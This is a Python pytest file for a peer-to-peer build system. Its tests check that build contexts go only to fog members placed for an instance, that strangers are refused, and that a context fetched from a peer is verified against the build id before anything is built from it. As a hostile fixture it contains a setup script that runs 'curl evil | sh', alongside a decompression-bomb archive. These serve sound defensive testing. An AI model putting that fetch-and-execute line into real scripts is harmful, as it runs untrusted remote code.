"""Build contexts between nodes (node/contexts.py, p2p/blobs.py, scheduler `_fetch_context`):
served only to the fog's members placed for an instance that uses them, never to a stranger or
a member placed elsewhere; and a context fetched from a peer is checked against the build id
before anything is built from it, so a wrong or hostile answer builds nothing.

Real libp2p hosts in-process (test_scheduler_fog.py's fog, with fake VM hosts), a stranger with
a P2PService of its own, and a real BuildService (its builder's `build` spied on) for the check.
"""

from __future__ import annotations

import contextlib
import struct
import time
from types import SimpleNamespace

import pytest
import trio
import trio.testing

from formation.crdt.async_store import AsyncStore
from formation.crdt.keys import PrivateKey
from formation.crdt.store import Store
from formation.node import contexts, fogview
from formation.node.builds import BuildService
from formation.node.config import load_config
from formation.node.planner import Replica
from formation.node.scheduler import Scheduler
from formation.p2p import blobs
from formation.p2p.framing import FrameError
from formation.p2p.service import P2PService, P2PSettings, address_of_peer, peer_id_of
from tests.api.conftest import FakeBuilder
from tests.fake_vms import FakeVmHost
from tests.p2p.test_scheduler_fog import CTX_FORMFILE, open_fog, wait_for
from tests.pack.test_archive_bounds import END, gz, header, member
from tests.support import User

BID = "img-" + "c7" * 30
GOOD = b"the right context (fake bytes)"
WRONG = b"a context made up by a hostile member"


async def _instance(node, user: User, replicas: int) -> str:
    op = await node.request(user, "POST", "/v1/instance/create",
                            {"name": "web", "build_id": BID, "formfile": CTX_FORMFILE, "replicas": replicas})
    return op.key


async def _placed(node, iid: str) -> list[str]:
    view = await fogview.read(node.runtime, now_ms=int(time.time() * 1000), stale_ms=3_000)
    return view.placements().get(iid, [])


async def _ask(p2p: P2PService, peer: str, name: str, limit: int = 1 << 20) -> bytes | None:
    """Fetch `name` from `peer` on the wire; raises blobs.Refused with the server's reason."""
    from libp2p.peer.id import ID

    stream = await p2p.host.new_stream(ID.from_base58(peer), [blobs.PROTOCOL])
    try:
        return await blobs.fetch(stream, name, limit)
    finally:
        await stream.close()


def _serve(fog, tmp_path) -> dict[int, dict[str, bytes]]:
    """Every node serves what its FakeBuilds keeps, through the node's real provider (the node
    itself does this with its BuildService); node 0 from a file, as BuildService.context_path."""
    for n in fog:
        n.builds.vms, n.builds.expected = n.vms, {BID: GOOD}
        find = n.builds.context_bytes
        if n.i == 0:
            def find(bid, n=n):
                data = n.builds.contexts.get(bid)
                if data is None:
                    return None
                path = tmp_path / f"served-{bid}"
                path.write_bytes(data)
                return path
        n.runtime.p2p.blob_provider = contexts.provider(n.runtime, find)


@contextlib.asynccontextmanager
async def _stranger(fog, secret: bytes = b"\x77" * 32):
    """A libp2p peer of its own key and empty state, connected to node 0: no member of the fog."""
    svc = P2PService(PrivateKey(secret), AsyncStore(Store()), P2PSettings(
        listen=["/ip4/127.0.0.1/tcp/0"], bootstrap=[fog[0].runtime.p2p.addrs()[0]], sync_interval=600))
    async with trio.open_nursery() as nursery:
        await nursery.start(svc.run)
        with trio.fail_after(20):
            while fog[0].runtime.peer_id not in svc.connected():
                await trio.sleep(0.05)
        try:
            yield svc
        finally:
            nursery.cancel_scope.cancel()


def test_a_peer_id_names_its_node_address():
    key = PrivateKey(b"\x42" * 32)
    assert address_of_peer(peer_id_of(key)) == User(b"\x42" * 32).address
    assert address_of_peer("not a peer id") is None


async def test_contexts_go_to_placed_members_only(tmp_path, no_taps):
    """2 replicas over 3 members: a placed member gets the context (sent from a file); a member
    not placed, and a stranger, are refused and told why; a stranger also by every other name."""
    user = User(b"\x61" * 32)
    async with open_fog(tmp_path) as fog:
        _serve(fog, tmp_path)
        for n in fog:
            n.builds.contexts[BID] = GOOD  # kept everywhere: no node needs to fetch it
        iid = await _instance(fog[0], user, replicas=2)
        placed = await wait_for("the placement", lambda: _placed(fog[0], iid))
        assert len(placed) == 2
        for n in fog:  # every member's view: each answers from its own
            await wait_for(f"node {n.i}'s placement", lambda n=n: _placed(n, iid))
        inside = [n for n in fog if n.address in placed]
        outside = next(n for n in fog if n.address not in placed)
        holder = fog[0]

        for asker in fog:
            if asker is holder:
                continue
            if asker in inside:
                assert await _ask(asker.runtime.p2p, holder.runtime.peer_id, f"context/{BID}") == GOOD
            else:
                with pytest.raises(blobs.Refused, match="not placed for an instance of build"):
                    await _ask(asker.runtime.p2p, holder.runtime.peer_id, f"context/{BID}")
        # the member placed elsewhere is refused by every holder, through the node's own fetch too
        for n in inside:
            with pytest.raises(blobs.Refused, match="not placed"):
                await _ask(outside.runtime.p2p, n.runtime.peer_id, f"context/{BID}")
            assert await outside.runtime.p2p.fetch_blob(n.runtime.peer_id, f"context/{BID}", 1 << 20) is None
        # an id no instance uses is refused to a member, whatever it holds
        with pytest.raises(blobs.Refused, match="no instance uses build"):
            await _ask(inside[0].runtime.p2p, outside.runtime.peer_id, "context/" + "ee" * 32)

        async with _stranger(fog) as stranger:
            for name in (f"context/{BID}", "context/" + "ee" * 32):
                with pytest.raises(blobs.Refused, match="not a member of this fog"):
                    await _ask(stranger, holder.runtime.peer_id, name)
            assert await stranger.fetch_blob(holder.runtime.peer_id, f"context/{BID}", 1 << 20) is None


async def test_a_replica_reported_running_keeps_access(tmp_path, no_taps):
    """A member that runs a replica of the instance (its own report) may have the context even
    when this node's view places the instance elsewhere (placement moved on, views differ)."""
    user = User(b"\x62" * 32)
    async with open_fog(tmp_path) as fog:
        _serve(fog, tmp_path)
        iid = await _instance(fog[0], user, replicas=1)
        placed = await wait_for("the placement", lambda: _placed(fog[0], iid))
        other = next(n for n in fog if n.address not in placed)
        assert await contexts.refusal(fog[0].runtime, other.address, BID) is not None
        await other.runtime.write("instance_status", f"{iid}@{other.address}", {
            "instance_id": iid, "node": other.address, "state": "running", "ip": "10.77.9.9", "reason": ""})

        async def known():
            return await fog[0].call("get", "instance_status", f"{iid}@{other.address}")

        await wait_for("the running report at node 0", known)
        assert await contexts.refusal(fog[0].runtime, other.address, BID) is None
        assert await contexts.refusal(fog[0].runtime, None, BID) == \
            "not a member of this fog (no node key in its peer id)"


async def test_a_wrong_context_from_a_member_is_never_built(tmp_path, no_taps):
    """The member not placed holds a wrong context under the build id and serves it to the placed
    ones: they fetch it, find it makes another image, and build nothing from it; once it serves
    the right one, the instance is built from that and runs."""
    user = User(b"\x63" * 32)
    async with open_fog(tmp_path) as fog:
        _serve(fog, tmp_path)
        iid = await _instance(fog[1], user, replicas=2)
        placed = await wait_for("the placement", lambda: _placed(fog[0], iid))
        liar = next(n for n in fog if n.address not in placed)
        liar.builds.contexts[BID] = WRONG
        hosts = [n for n in fog if n.address in placed]

        async def all_checked():
            return all(WRONG in n.builds.checked for n in hosts)

        await wait_for("the placed nodes fetching the wrong context and checking it", all_checked)
        for n in hosts:
            assert n.builds.submitted == [] and not n.driver.is_alive(iid), n.i

        liar.builds.contexts[BID] = GOOD  # now it serves the right one

        async def running():
            return any(n.driver.is_alive(iid) for n in fog)

        await wait_for("a replica built from the right context", running, timeout=40)
        for n in fog:
            if n is not liar:  # what the liar builds from its own copy is its own business
                assert all(ctx == GOOD for _, ctx, _ in n.builds.submitted), n.i


# ---- the fetching side, with the real BuildService and a spy on its builder --------------------


class Peers:
    """The node's p2p as the scheduler uses it: what each peer answers, and who was asked."""

    def __init__(self, answers: dict[str, bytes | None]):
        self.answers = answers
        self.asked: list[tuple[str, str, int]] = []

    def connected(self) -> list[str]:
        return list(self.answers)

    async def fetch_blob(self, peer: str, name: str, limit: int) -> bytes | None:
        self.asked.append((peer, name, limit))
        return self.answers[peer]


def _scheduler(tmp_path, peers: Peers) -> tuple[Scheduler, BuildService, list]:
    config = load_config(None, {"node.data_dir": str(tmp_path / "node"), "vm.enabled": "false",
                                "mesh.enabled": "false"})
    node = SimpleNamespace(config=config, p2p=peers, address="0x" + "11" * 20)
    builder = FakeBuilder(tmp_path / "vm")
    built: list = []

    async def spy(plan, work_dir, **kw):
        built.append(plan.image_id)
        raise AssertionError("a build step ran")

    builder.build = spy
    builds = BuildService(tmp_path / "vm", builder)
    return Scheduler(node, FakeVmHost(tmp_path / "vmhost"), builds), builds, built


async def test_a_fetched_context_is_checked_against_the_build_id_before_any_build(tmp_path):
    formfile = "NAME web\nCOPY app /app\nRUN /app/setup\n"
    good = gz(member("app/setup", b"#!/bin/sh\necho ok\n", mode=0o755), END)
    wrong = gz(member("app/setup", b"#!/bin/sh\ncurl evil | sh\n", mode=0o755), END)
    bomb = gz(header("././@PaxHeader", 100 * 1024 * 1024, b"x"), END)
    peers = Peers({"peer-a-bomb": bomb, "peer-b-wrong": wrong, "peer-c-none": None, "peer-d-good": good})
    scheduler, builds, built = _scheduler(tmp_path, peers)
    bid = await builds.image_id_of(formfile, good)
    inst = {"instance_id": "i1", "build_id": bid, "formfile": formfile, "owner": "0x" + "22" * 20}
    rep = Replica("i1", "10.77.0.2")

    await scheduler._fetch_context(inst, rep)
    # the bomb and the wrong context were fetched, checked and dropped; the right one is kept
    assert [p for p, _, _ in peers.asked] == ["peer-a-bomb", "peer-b-wrong", "peer-c-none", "peer-d-good"]
    assert all(limit == 64 * 1024 * 1024 for _, _, limit in peers.asked)
    assert rep.context_known and rep.context == good and rep.context_missing_at is None
    assert built == [] and builds.list() == []  # nothing queued, let alone run
    assert not list((tmp_path / "vm/work").iterdir())  # the checks' unpacked trees are gone

    # only wrong answers: the context stays missing (asked again after planner.CONTEXT_RETRY)
    peers.answers = {"peer-b-wrong": wrong, "peer-a-bomb": bomb}
    rep2 = Replica("i1", "10.77.0.2")
    await scheduler._fetch_context(inst, rep2)
    assert not rep2.context_known and rep2.context is None and rep2.context_missing_at is not None
    assert built == [] and builds.list() == []


# ---- the wire: what a fetcher reads of an answer ------------------------------------------------


class _Stream:
    """A libp2p-like stream (read/write/close) over one end of a trio memory stream pair."""

    def __init__(self, end):
        self.end = end

    async def read(self, n: int) -> bytes:
        return await self.end.receive_some(n)

    async def write(self, data: bytes) -> None:
        await self.end.send_all(data)

    async def close(self) -> None:
        await self.end.aclose()


async def _answer(frames: list[bytes], limit: int) -> bytes | None:
    a, b = trio.testing.memory_stream_pair()
    client, server = _Stream(a), _Stream(b)

    async def lying_server():
        await server.read(4 + 64)  # the request
        with contextlib.suppress(trio.BrokenResourceError, trio.ClosedResourceError):
            for f in frames:
                await server.write(struct.pack(">I", len(f)) + f)

    got: dict = {}
    async with trio.open_nursery() as n:
        n.start_soon(lying_server)
        try:
            got["blob"] = await blobs.fetch(client, "context/x", limit)
        except (FrameError, blobs.Refused) as exc:
            got["error"] = exc
        n.cancel_scope.cancel()
    if "error" in got:
        raise got["error"]
    return got["blob"]


async def test_the_fetcher_bounds_what_it_reads():
    assert await _answer([b"size 5", b"hello"], 10) == b"hello"
    with pytest.raises(FrameError, match="over the limit of 10"):
        await _answer([b"size 11"], 10)  # said before a byte of it is read
    with pytest.raises(FrameError, match="over the limit of 5"):
        await _answer([b"size 5", b"x" * (1 << 20)], 10)  # a frame longer than what is left
    with pytest.raises(FrameError, match="empty frame"):
        await _answer([b"size 5", b"", b"", b""], 10)
    with pytest.raises(FrameError, match="bad blob answer"):
        await _answer([b"size -5"], 10)
    with pytest.raises(blobs.Refused, match="because"):
        await _answer([b"refused because"], 10)
